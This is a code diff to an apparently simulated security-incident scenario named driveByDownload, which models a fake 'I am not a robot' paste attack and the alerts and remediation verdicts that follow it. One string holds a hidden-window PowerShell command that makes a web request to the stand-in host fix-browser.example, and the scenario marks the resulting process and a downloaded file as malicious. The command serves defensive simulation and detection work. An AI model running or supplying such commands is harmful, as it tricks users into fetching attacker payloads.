@@ -24,6 +24,7 @@ export const driveByDownload: Story = {
   begins: "2026-10-28T12:20:31Z",
   tell(scene) {
     const paste = startProcess(scene, {
+      on: DEVICES.lt0401,
       file: SYSTEM_FILES.powershell,
       commandLine:
         "powershell -w h -c \"$u='https://fix-browser.example/v'; iwr $u | Out-Null # I am not a robot ✅\"",
@@ -73,13 +74,7 @@ export const driveByDownload: Story = {
           investigation: [130, "successfullyRemediated"],
           evidence: (seen) => [
             deviceSeen(seen, DEVICES.lt0401, {}, "low"),
-            processSeen(
-              seen,
-              DEVICES.lt0401,
-              paste,
-              { verdict: "malicious", remediationStatus: "prevented" },
-              "prevented",
-            ),
+            processSeen(seen, paste, { verdict: "malicious", remediationStatus: "prevented" }, "prevented"),
             fileSeen(seen, DEVICES.lt0401, update, { verdict: "malicious", remediationStatus: "remediated" }),
           ],
         },
